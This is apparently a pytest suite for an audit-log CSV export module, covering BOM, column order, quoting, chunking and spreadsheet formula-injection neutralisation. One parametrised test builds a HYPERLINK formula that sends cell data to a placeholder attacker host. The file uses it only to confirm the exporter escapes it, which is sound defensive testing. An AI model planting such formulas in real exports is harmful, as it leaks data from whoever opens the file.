"""export.csv: parsed back with Python's csv module; BOM, columns, quoting, formula injection."""

from __future__ import annotations

import csv
import io
import json

import pytest
from helpers_engine import SAMPLE_SIG as SIG
from helpers_engine import SAMPLE_TS as TS
from helpers_engine import sample_entry as entry
from hypothesis import given, settings
from hypothesis import strategies as st

from auditlog.engine.entry import Entry, format_ts
from auditlog.export.csv import CHUNK_CHARS, CSV_COLUMNS, iter_csv


def render(entries, bom: bool = True) -> str:
    return "".join(iter_csv(entries, bom=bom))


def parse(text: str) -> list[list[str]]:
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text[1:], newline="")))


def rows(*entries: Entry) -> list[dict[str, str]]:
    header, *body = parse(render(entries))
    assert tuple(header) == CSV_COLUMNS
    return [dict(zip(header, r, strict=True)) for r in body]


def test_header_bom_and_crlf() -> None:
    text = render([entry()])
    assert text.startswith(
        "\ufefftimestamp,node_id,seq,user,action,target,domain,ip_address,"
        "user_agent,success,details,signature,integrity\r\n"
    )
    assert text.count("\r\n") == 2 and text.endswith("\r\n")
    assert "\n" not in text.replace("\r\n", "")
    assert not render([entry()], bom=False).startswith("\ufeff")


def test_header_alone_for_no_entries() -> None:
    assert render([]) == "\ufeff" + ",".join(CSV_COLUMNS) + "\r\n"


def test_cells_in_column_order() -> None:
    (row,) = rows(
        entry(
            seq=42,
            ts=TS,
            user="bob",
            action="config.dkim_rotate",
            target="sel1",
            domain="example.com",
            ip="2001:db8::1",
            user_agent="curl/8.5",
            success=False,
            details={"old": "a", "new": "b"},
        )
    )
    assert row == {
        "timestamp": "2026-03-14T09:12:33.123456Z",
        "node_id": "node-a",
        "seq": "42",
        "user": "bob",
        "action": "config.dkim_rotate",
        "target": "sel1",
        "domain": "example.com",
        "ip_address": "2001:db8::1",
        "user_agent": "curl/8.5",
        "success": "false",
        "details": '{"new":"b","old":"a"}',
        "signature": SIG.hex(),
        "integrity": "ok",
    }


def test_nulls_are_empty_cells_and_success_true() -> None:
    (row,) = rows(entry(ip=None))
    assert row["target"] == row["domain"] == row["ip_address"] == row["user_agent"] == ""
    assert row["success"] == "true" and row["details"] == "{}"


def test_details_compact_sorted_unicode_and_tuples() -> None:
    details = {"z": -5, "a": ("x", 1, {"k": None}), "subject": 'Grüße, "quoted"\nline 2'}
    (row,) = rows(entry(details=details))
    assert row["details"] == ('{"a":["x",1,{"k":null}],"subject":"Grüße, \\"quoted\\"\\nline 2","z":-5}')
    assert json.loads(row["details"])["z"] == -5  # a negative number inside {...} is untouched


def test_details_with_bytes_and_odd_keys_do_not_crash() -> None:
    (row,) = rows(entry(details={"raw": b"\x01\xff", 3: "three", "b": 1}))
    assert json.loads(row["details"]) == {"raw": "01ff", "3": "three", "b": 1}


def test_marker_row_carries_the_violation_text() -> None:
    marker = Entry.marker("node-a", 7, TS, "frame checksum mismatch, seq 7-9 in 000001.seg")
    (row,) = rows(marker)
    assert row["integrity"] == "violation" and row["action"] == "audit.integrity_violation"
    assert json.loads(row["details"]) == {"violation": "frame checksum mismatch, seq 7-9 in 000001.seg"}
    assert row["signature"] == "" and row["seq"] == "7"


@pytest.mark.parametrize("lead", ["=", "+", "-", "@", "\t", "\r"])
@pytest.mark.parametrize(
    "field, column",
    [
        ("user", "user"),
        ("target", "target"),
        ("domain", "domain"),
        ("user_agent", "user_agent"),
        ("action", "action"),
        ("ip", "ip_address"),
        ("node", "node_id"),
    ],
)
def test_formula_injection_neutralised(lead: str, field: str, column: str) -> None:
    payload = f'{lead}HYPERLINK("http://evil.example/?"&A1,"click")'
    (row,) = rows(entry(**{field: payload}))
    assert row[column] == "'" + payload
    for other in ("user", "target", "domain", "user_agent"):
        if other != column:
            assert not row[other].startswith("'")


def test_every_cell_of_a_row_is_neutralised_at_once() -> None:
    (row,) = rows(entry(user="=1+1", target="+1", domain="-1", user_agent="@SUM(A1)"))
    assert (row["user"], row["target"], row["domain"], row["user_agent"]) == ("'=1+1", "'+1", "'-1", "'@SUM(A1)")


def test_formula_chars_not_at_the_start_are_left_alone() -> None:
    (row,) = rows(entry(user="a=b", target="x-1", user_agent="Mozilla/5.0 (KHTML, like Gecko) +x"))
    assert (row["user"], row["target"]) == ("a=b", "x-1")
    assert row["user_agent"] == "Mozilla/5.0 (KHTML, like Gecko) +x"


@pytest.mark.parametrize(
    "value",
    [
        'say "hi"',
        "a,b",
        "line1\nline2",
        "line1\r\nline2",
        "cr\ronly",
        '"',
        ",",
        '",\r\n"',
        "  leading and trailing  ",
        "Zürich – 東京 – 🙂",
        "'already quoted",
    ],
)
def test_special_text_round_trips(value: str) -> None:
    (row,) = rows(entry(user=value, target=value, user_agent=value))
    assert row["user"] == row["target"] == row["user_agent"] == value


def test_many_rows_come_in_bounded_chunks() -> None:
    entries = [
        entry(seq=i, user=f"user{i}", user_agent="Mozilla/5.0 (X11, Linux)", details={"n": i}) for i in range(1, 3001)
    ]
    chunks = list(iter_csv(entries))
    assert len(chunks) > 3
    assert all(len(c) < CHUNK_CHARS + 2000 for c in chunks)
    assert all(c.endswith("\r\n") for c in chunks)  # chunks end on row boundaries
    body = parse("".join(chunks))[1:]
    assert [r[2] for r in body] == [str(i) for i in range(1, 3001)]
    assert [json.loads(r[10])["n"] for r in body] == list(range(1, 3001))


def test_timestamps_across_seconds_and_the_epoch() -> None:
    stamps = [0, 999_999, 1_000_000, TS, TS + 1_000_000, TS - 1]
    body = parse(render([entry(ts=t) for t in stamps]))[1:]
    assert [r[0] for r in body] == [format_ts(t) for t in stamps]


def test_damaged_record_with_non_text_values_does_not_crash() -> None:
    (row,) = rows(entry(user=12, user_agent=3.5))  # type: ignore[arg-type]
    assert row["user"] == "12" and row["user_agent"] == "3.5"


_field_text = st.text(max_size=40)
_opt_text = st.one_of(st.none(), _field_text)


def _shown(value: str | None) -> str:
    if not value:
        return ""
    return "'" + value if value[0] in "=+-@\t\r" else value


@settings(max_examples=300)
@given(
    user=_field_text,
    target=_opt_text,
    domain=_opt_text,
    user_agent=_opt_text,
    details=st.dictionaries(
        st.text(max_size=8), st.one_of(st.text(max_size=20), st.integers(), st.booleans(), st.none()), max_size=4
    ),
)
def test_round_trip_of_arbitrary_text(
    user: str, target: str | None, domain: str | None, user_agent: str | None, details: dict
) -> None:
    e = entry(user=user, target=target, domain=domain, user_agent=user_agent, details=details)
    (row,) = rows(e)
    assert row["user"] == _shown(user)
    assert row["target"] == _shown(target)
    assert row["domain"] == _shown(domain)
    assert row["user_agent"] == _shown(user_agent)
    assert json.loads(row["details"]) == details
    assert row["signature"] == SIG.hex()


@settings(max_examples=100)
@given(st.lists(st.tuples(st.text(max_size=10), st.text(max_size=10)), min_size=1, max_size=20))
def test_matches_the_csv_module_on_plain_cells(pairs: list[tuple[str, str]]) -> None:
    """Cells needing no neutralisation come out exactly as csv.writer writes them."""
    entries = [entry(seq=i, user="u" + u, user_agent="a" + a) for i, (u, a) in enumerate(pairs, 1)]
    buf = io.StringIO()
    writer = csv.writer(buf, lineterminator="\r\n")
    writer.writerow(CSV_COLUMNS)
    for e in entries:
        writer.writerow(
            [
                format_ts(e.ts),
                e.node,
                e.seq,
                e.user,
                e.action,
                e.target,
                e.domain,
                e.ip,
                e.user_agent,
                "true",
                "{}",
                e.signature.hex(),
                e.integrity,
            ]
        )
    assert render(entries, bom=False) == buf.getvalue()
